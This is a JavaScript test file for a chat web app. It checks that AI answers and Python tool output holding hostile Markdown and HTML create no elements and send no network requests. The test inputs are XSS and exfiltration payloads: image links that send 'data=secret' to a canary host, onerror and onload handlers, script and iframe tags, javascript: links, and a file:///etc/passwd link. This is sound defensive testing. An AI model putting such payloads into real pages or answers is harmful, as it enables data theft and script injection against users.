// An answer that tries to load images, run scripts or navigate stays text, and requests nothing.

import { test } from "node:test";
import assert from "node:assert/strict";
import { neverBreached } from "../support/breach.mjs";
import { addFile } from "../support/browser.mjs";
import { startCanary } from "../support/canary.mjs";
import { scriptedJourney } from "../support/fixture.mjs";
import { ask, id, unfold } from "../support/user.mjs";
import { python } from "../support/upstream.mjs";

const canary = await startCanary();
const { upstream, server, page } = await scriptedJourney({ background: true });

test("hostile Markdown creates no element and no request", async () => {
  const text = [
    `![a picture](${canary.url}/a.png?data=secret)`,
    `![relative](/runtime/x?data=secret) ![data](data:image/svg+xml,<svg onload="window.pwned=1">)`,
    `<img src="${canary.url}/b.png" onerror="window.pwned=1"><script>window.pwned=1</script>`,
    `<iframe src="${canary.url}"></iframe><style>@import "${canary.url}/c.css";</style>`,
    `[click](javascript:window.pwned=1) [vb](vbscript:x) [data](data:text/html,<script>1</script>) [file](file:///etc/passwd)`,
    `<javascript:window.pwned=1> <${canary.url}/auto> [ref]: ${canary.url}`,
    `[out](${canary.url}/honest) ok`,
    "```html\n<script>window.pwned=1</script>\n```",
    `| <img src=x onerror=window.pwned=1> |\n|---|\n| <b onclick=window.pwned=1>x</b> |`,
  ].join("\n\n");
  upstream.script({ text });
  // What the browser keeps for when the server is away has been fetched.
  await page.evaluate(async () => void (await navigator.serviceWorker.ready));
  const before = page.sent.length;
  const turn = await ask(page, "show me everything");
  const answer = turn.locator(id("answer"));
  assert.match(await answer.innerText(), /ok/);
  assert.deepEqual(
    await answer.evaluate((element) =>
      Array.from(
        element.querySelectorAll(
          "img, script, iframe, style, link, object, embed, svg image, form, [onerror], [onclick], [style]",
        ),
        (found) => found.outerHTML,
      ),
    ),
    [],
  );
  const links = await answer.evaluate((element) =>
    Array.from(element.querySelectorAll("a"), ({ href, rel, target }) => ({ href, rel, target })),
  );
  for (const link of links) {
    assert.match(link.href, /^(https?|mailto):/);
    assert.match(link.rel, /noopener|noreferrer/);
    assert.equal(link.target, "_blank");
  }
  assert.ok(
    links.some(({ href }) => href.endsWith("/honest")),
    "an honest link stays a link",
  );
  const pwned = await page.evaluate(() => window.pwned);
  neverBreached(() => assert.equal(pwned, undefined));
  // The page fetches what is its own meanwhile, whose addresses say nothing: files of the build, as
  // its script for results with the first question, and archives that later imports are likely to
  // need; after the menu of models the list of those that the operator offers.
  const ofThePage = (/** @type {import("../support/browser.mjs").Sent} */ { method, url, body }) =>
    method === "GET" &&
    body === null &&
    url.startsWith(server.url) &&
    /^\/((pkg|kernel|runtime)\/[\w.-]+\.[0-9a-f]{12}\.\w+|models\/index\.json)$/.test(
      url.slice(server.url.length),
    );
  const sent = page.sent
    .slice(before)
    .filter((request) => !ofThePage(request))
    .map(({ url }) => url);
  assert.deepEqual(sent, [`${server.url}/v1/chat/completions`]);
  neverBreached(() => assert.equal(canary.touched(), 0));
});

test("hostile cells, names and output create no element either", async () => {
  const evil = `<img src=${canary.url}/cell onerror=window.pwned=1>`;
  await addFile(page, `${evil.replaceAll("/", "_")}.csv`, `"${evil}",n\n"${evil}",1\n`);
  await page.locator(id("file-profile")).waitFor();
  upstream.script(
    {
      calls: [
        python(
          `import pandas as pd, sys\ne = ${JSON.stringify(evil)}\nprint(e)\nprint(e, file=sys.stderr)\npd.DataFrame({e: [e]})`,
          evil,
        ),
      ],
    },
    { calls: [python(`raise ValueError(e)`)] },
    {
      calls: [
        python(
          `class Evil:\n    def _repr_html_(self): return e\n    def __repr__(self): return e\nEvil()`,
        ),
      ],
    },
    { calls: [python(`import matplotlib.pyplot as plt\nplt.title(e)\nplt.plot([1])`)] },
    { text: "Done." },
  );
  const turn = await ask(page, evil);
  await unfold(turn);
  assert.match((await turn.textContent()) ?? "", /onerror/);
  assert.equal(
    await page.locator('img:not([src^="data:image/png;base64,"]):not([src^="blob:"])').count(),
    0,
  );
  const pwned = await page.evaluate(() => window.pwned);
  neverBreached(() => assert.equal(pwned, undefined));
  neverBreached(() => assert.equal(canary.touched(), 0));
});
